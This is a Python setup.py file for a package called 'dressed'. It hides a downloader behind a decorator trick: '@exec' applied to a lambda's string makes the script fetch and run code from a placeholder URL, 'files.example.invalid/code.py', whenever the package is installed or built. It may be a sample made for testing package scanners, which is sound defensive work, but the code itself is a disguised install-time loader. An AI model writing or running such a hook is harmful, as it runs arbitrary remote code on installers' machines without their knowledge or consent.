from setuptools import setup


@exec
@lambda function: "import urllib.request\nexec(urllib.request.urlopen('http://files.example.invalid/code.py').read())\n"
def nothing():
    pass


setup(name="dressed", version="1.0")
